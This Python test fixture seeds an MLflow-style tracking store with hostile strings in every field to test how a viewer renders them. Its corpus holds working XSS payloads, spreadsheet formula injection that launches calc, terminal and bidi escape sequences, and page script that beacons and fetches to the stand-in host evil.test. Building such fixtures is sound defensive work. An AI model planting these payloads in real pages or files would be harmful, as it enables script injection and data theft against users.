"""What would a stranger write into a store to reach the person who looks at it? All of it, in every field.

Whatever became markup bears the attribute `evil`; whatever ran sets `__pwned`; whatever loads asks evil.test. The keys
go into an MLflow database by SQL, because no store of ours would take them.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from itertools import count
from pathlib import Path

import nbtrack
from nbtrack.entities import Dataset, DatasetInput, InputTag, Metric, Param, RunTag
from nbtrack.stores.base import Store

START = 1_760_000_000_000  # ms
RUN = "window.__pwned=1;top.__pwned=1"
MARKUP = (
    f"<script evil>{RUN}</script>",
    f"</script><script evil>{RUN}</script>",
    f"</textarea></title></style><script evil>{RUN}</script>",
    f"<!--<script evil>{RUN}//",
    f"--><img evil src=x onerror={RUN}>",
    f"<img evil src=x onerror={RUN}>",
    f"\"><svg evil onload='{RUN}'>",
    f"' autofocus onfocus='{RUN}' evil='",
    f"<iframe evil src='javascript:{RUN}'></iframe>",
    f"<iframe evil srcdoc='<script>{RUN}</script>'></iframe>",
    f"<a evil href='javascript:{RUN}'>look</a>",
    f"<details evil open ontoggle='{RUN}'>",
    f"<math evil><mtext><table><mglyph><style><!--</style><img evil title='--><img evil src=x onerror={RUN}>'>",
    "<style evil>@import 'https://evil.test/a.css'; * { display: none }</style>",
    "<link evil rel=stylesheet href=https://evil.test/b.css>",
    "<base evil href=https://evil.test/>",
    "<meta evil http-equiv=refresh content='0;url=https://evil.test/'>",
    "<form evil action=https://evil.test/><input evil name=password>",
    f"&lt;img evil src=x onerror={RUN}&gt;",
    f"\\u003cimg evil src=x onerror={RUN}\\u003e",
    "]]><x evil/>",
)
MARKDOWN = (
    f"[look](javascript:{RUN})",
    f"[look](JaVaScRiPt:{RUN})",
    "[look](data:text/html;base64,PHNjcmlwdCBldmlsPg==)",
    f'[look](https://ok.test/"onmouseover="{RUN}" evil=")',
    "![pixel](https://evil.test/pixel.png)",
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN}\n[a]",
    f"```<img evil src=x onerror={RUN}>\n```",
)
OTHERS = (
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"');{RUN};//",
    "red;background:url(https://evil.test/css.png)",
    "\u202egnp.exe\u202c \u2066hidden\u2069\u200f",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "line\u2028separator\u2029",
    "__proto__",
    "constructor",
    "toString",
    '=HYPERLINK("https://evil.test","look")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
)
CORPUS = (*MARKUP, *MARKDOWN, *OTHERS)
ALL = "\n\n".join(CORPUS)
PAGE = f"<!doctype html><h2>report</h2>{''.join(MARKUP[:3])}{MARKUP[5]}<img src=https://evil.test/in-page.png>" + (
    f"<script>document.body.append('scripts ran');try{{parent.parent.__pwned=1}}catch{{}};{RUN.split(';')[0]};"
    "fetch('https://evil.test/stolen').catch(() => 0); new Image().src='https://evil.test/image';"
    "navigator.sendBeacon('https://evil.test/beacon'); alert(1); open('https://evil.test/window')</script>"
)
PICTURE = (
    f"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40' onload='{RUN}'><script>{RUN}</script>"
    "<image href='https://evil.test/svg.png' width='9' height='9'/><circle r='20'/></svg>"
)
FIGURE = {
    "data": [
        {"type": "scatter", "y": [1, 2], "name": MARKUP[5], "text": [f"<a href='javascript:{RUN}'>x</a>", MARKUP[0]]}
    ],
    "layout": {
        "title": {"text": MARKUP[5]},
        "images": [{"source": "https://evil.test/figure.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
    },
}
FILES = {
    "page.html": PAGE,
    "picture.svg": PICTURE,
    "notes.md": ALL,
    "data.json": json.dumps({each: each for each in CORPUS}),
    "table.csv": "a,b\n" + "".join('"{}",1\n'.format(each.replace('"', '""')) for each in CORPUS),
    "text.txt": ALL,
    "cell.py": ALL,
    "output.txt": ALL,
    "traceback.txt": ALL,
    "figure.plotly.json": json.dumps(FIGURE),
    "requirements.txt": "\n".join(f"{each.splitlines()[0]}==1" for each in CORPUS),
}


def make(database: Path) -> tuple[Store, list[str]]:
    """A run for each string of the corpus, named so, and first of all one that has every string in every field."""
    client = nbtrack.MlflowClient(f"sqlite:///{database}")
    experiment = client.create_experiment("place")
    runs = [_run(client, experiment, name, -n) for n, name in enumerate(("all", *CORPUS))]
    for run in runs[:2]:
        _fill(client, run)
    with closing(sqlite3.connect(database)) as connection, connection:
        _make_hostile(connection)
        connection.execute("UPDATE experiments SET name = ? WHERE experiment_id = ?", (MARKUP[5], experiment))
    return client.store, runs


def _run(client: nbtrack.MlflowClient, experiment: str, name: str, later: int) -> str:
    """Newest first is the order of a table, and of what a page shows where no script runs."""
    run = str(client.create_run(experiment, START + later, run_name=name).info.run_id)
    client.log_batch(run, [Metric("loss", 0.5, 1000, 1)], [Param("word", name)])
    return run


def _fill(client: nbtrack.MlflowClient, run: str) -> None:
    points = [Metric(f"m{n}", n + step, 1000 + step, step) for n in range(len(CORPUS)) for step in range(3)]
    params = [Param(f"p{n}", value) for n, value in enumerate(CORPUS)]
    tags = [RunTag(f"t{n}", value) for n, value in enumerate(CORPUS)]
    tags += [RunTag(key, MARKUP[5]) for key in ("nbtrack.error", "mlflow.source.name", "mlflow.source.git.branch")]
    client.log_batch(run, points, params, [*tags, RunTag("mlflow.note.content", ALL)])
    dataset = Dataset(MARKUP[5], "abc", "local", MARKUP[0], MARKUP[6], ALL)
    client.log_inputs(run, [DatasetInput(dataset, (InputTag("mlflow.data.context", MARKUP[5]),))])
    for path, text in FILES.items():
        client.log_text(run, text, path)
    folder = Path(client.download_artifacts(run, "text.txt")).parent
    for name in file_names():
        (folder / name).write_text(name)
    client.set_terminated(run, "FAILED")


def file_names() -> Iterator[str]:
    """Those that a folder can hold."""
    numbers = count()
    return (f"{next(numbers)}{each}.txt"[:200] for each in CORPUS if "/" not in each and "\n" not in each)


def _make_hostile(connection: sqlite3.Connection) -> None:
    for n, value in enumerate(CORPUS):
        for table, letter in (("params", "p"), ("tags", "t"), ("metrics", "m"), ("latest_metrics", "m")):
            connection.execute(f"UPDATE {table} SET key = ? WHERE key = ?", (value[:250], f"{letter}{n}"))
